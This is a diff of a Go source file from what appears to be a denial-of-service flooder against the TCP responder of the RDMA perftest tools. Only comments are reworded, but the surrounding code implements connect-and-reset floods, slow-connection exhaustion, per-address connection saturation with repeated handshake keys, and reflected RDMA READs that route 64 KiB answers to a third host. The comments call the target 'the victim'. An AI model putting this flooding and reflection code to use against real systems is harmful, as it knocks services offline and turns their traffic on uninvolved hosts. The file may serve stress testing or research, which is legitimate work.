@@ -14,7 +14,7 @@ import (
 	"github.com/gorxe/gorxe/qp"
 )
 
-// exchanges are with the responder to perftest and the pingpongs, over TCP.
+// exchanges attack the responder to perftest and the pingpong tools, over TCP.
 var exchanges = []Pattern{
 	{Name: "tcp-connect", Does: "connections that are closed at once",
 		By: Stranger, Call: func(ctx context.Context, f *Flood, _ uint64) error {
@@ -39,7 +39,7 @@ var exchanges = []Pattern{
 		By: Stranger, Call: repeatKeys()},
 }
 
-// reflections are of queue pairs that the responder to perftest has connected to the host that the
+// reflections use queue pairs that the responder to perftest has connected to a host that the
 // flooder named.
 var reflections = []Pattern{
 	{Name: "reflected-reads", Does: "READs of 64 KiB under the address of a third host that perftest's exchange named, which gets the answers",
@@ -53,7 +53,7 @@ var reflections = []Pattern{
 		}},
 }
 
-// reflectedRead is one of eight READs, again and again.
+// reflectedRead returns one of eight READs, cyclically.
 func reflectedRead(f *Flood, i uint64) Datagram {
 	const n = 64 << 10
 	o := &f.Own[0]
@@ -62,7 +62,7 @@ func reflectedRead(f *Flood, i uint64) Datagram {
 	return d
 }
 
-// opening is what a client of perftest says before its keys.
+// opening returns the messages of a perftest client before its keys.
 func opening() [][]byte {
 	return [][]byte{
 		perftest.AppendVersion(nil, perftest.Announced), perftest.AppendWord(nil, 4096), perftest.AppendWord(nil, 64),
@@ -70,8 +70,8 @@ func opening() [][]byte {
 	}
 }
 
-// session gets the first of the flooder's queue pairs from the responder to perftest, and keeps it
-// until hangUp.
+// session gets the first of the flooder's queue pairs from the responder to perftest. hangUp ends
+// the session.
 func (f *Flood) session(ctx context.Context, names Source) (hangUp func(), err error) {
 	c, err := f.dial(ctx)
 	if err != nil {
@@ -108,7 +108,7 @@ func (f *Flood) dial(ctx context.Context) (net.Conn, error) {
 	return d.DialContext(ctx, "tcp", netip.AddrPortFrom(f.Addr, f.ToolsTCP).String())
 }
 
-// call connects, says something and closes with a reset, which leaves nothing in TIME-WAIT.
+// call connects, sends say and closes with a reset, which leaves no connection in TIME-WAIT.
 func (f *Flood) call(ctx context.Context, say []byte) error {
 	c, err := f.dial(ctx)
 	if err != nil {
@@ -116,7 +116,7 @@ func (f *Flood) call(ctx context.Context, say []byte) error {
 	}
 	defer c.Close()
 	if t, ok := c.(*net.TCPConn); ok {
-		// The error is of a connection that is gone already.
+		// An error means that the connection is already closed.
 		_ = t.SetLinger(0)
 	}
 	if len(say) == 0 {
@@ -127,18 +127,18 @@ func (f *Flood) call(ctx context.Context, say []byte) error {
 	return err
 }
 
-// slow keeps connections open that say something and then nothing any more.
+// slow keeps connections open that send say and then nothing.
 func slow(say []byte) func(context.Context, *Flood, uint64) error {
 	return keepOpen(512, func(_ *Flood, c net.Conn) {
 		if _, err := c.Write(say); err == nil {
-			// Until the victim has had enough.
+			// Wait until the victim closes the connection.
 			_, _ = io.Copy(io.Discard, c)
 		}
 	})
 }
 
-// repeatKeys keeps as many connections open as an address may have, each of which repeats a key
-// until the victim has had enough.
+// repeatKeys keeps the maximum number of connections of one address open. Each repeats a key
+// until the victim closes it.
 func repeatKeys() func(context.Context, *Flood, uint64) error {
 	return keepOpen(16, func(f *Flood, c net.Conn) {
 		for _, item := range opening() {
@@ -160,8 +160,8 @@ func repeatKeys() func(context.Context, *Flood, uint64) error {
 	})
 }
 
-// keepOpen keeps n connections open, with each of which it calls do: the first n calls make one
-// each, later ones replace those that have ended.
+// keepOpen keeps up to n connections open and calls do with each. Calls beyond n only replace
+// connections that have ended.
 func keepOpen(n int, do func(*Flood, net.Conn)) func(context.Context, *Flood, uint64) error {
 	var mu sync.Mutex
 	open := 0
